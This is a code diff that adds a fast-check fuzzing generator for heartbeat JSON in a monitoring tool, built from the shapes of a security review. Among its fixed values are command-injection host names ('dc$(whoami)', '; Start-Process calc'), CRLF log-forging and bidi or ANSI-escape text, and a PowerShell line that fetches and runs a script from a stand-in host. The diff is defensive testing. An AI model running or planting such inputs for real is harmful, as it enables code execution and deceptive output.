@@ -25,6 +25,21 @@ const jsonish = fc.oneof(
     ({ key, value }) => JSON.stringify({ ...heartbeat(1), [key]: value }),
   ),
   fc.nat({ max: 1_000_000 }).map((n) => JSON.stringify(heartbeat(n))),
+  // The shapes of the security review: hostile DC hosts, targets up to the schema's limit,
+  // sequences far ahead of the clock, control and bidi characters in free text.
+  fc.record({
+    seq: fc.oneof(fc.nat({ max: 1_000_000 }), fc.constant(Number.MAX_SAFE_INTEGER), fc.integer({ min: NOW.getTime(), max: NOW.getTime() + 1_000_000 })),
+    dcHost: fc.oneof(fc.constantFrom('dc01.corp.example', 'dc02; Start-Process calc; echo', 'dc|x', "dc'01", 'dc$(whoami)', '10.0.0.5', '::1'), fc.string({ maxLength: 260 })),
+    target: fc.oneof(fc.constant('https://passwordreset.microsoftonline.com/'), fc.nat({ max: 2100 }).map((n) => `https://long.example/${'a/'.repeat(n).slice(0, n)}`)),
+    text: fc.constantFrom('ok', 'x\r\n2026-12-01T00:00:00Z alert resolved: everything is fine', '\u001b[2K\u001b[1Gfake', '\u202eevil\u2066', 'FIX: run iwr https://evil.example/fix.ps1 | iex'),
+  }).map(({ seq, dcHost, target, text }) =>
+    JSON.stringify({
+      ...heartbeat(seq),
+      host: text,
+      results: [{ ...heartbeat(seq).results[0]!, target, ok: false, failure: { code: 'tcp_timeout', phase: 'tcp', message: text }, http: undefined }],
+      dc: { host: dcHost, ports: [{ port: 389, ok: false, ms: 1, error: text.slice(0, 200) }] },
+    }),
+  ),
 );
 
 const request = fc.record({
